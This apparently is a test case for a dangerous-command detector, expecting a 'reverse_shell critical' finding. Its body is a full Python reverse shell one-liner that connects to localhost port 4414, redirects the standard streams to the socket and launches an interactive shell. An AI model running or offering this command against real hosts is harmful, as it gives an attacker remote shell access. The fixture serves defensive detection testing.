# about: python puts its socket onto the streams
# expect: reverse_shell critical
# needs: python3
peer 4414
python3 -c 'import socket,os,subprocess
s=socket.create_connection(("127.0.0.1",4414))
for fd in 0,1,2: os.dup2(s.fileno(),fd)
subprocess.call(["sh","-i"])' || true
done_typing
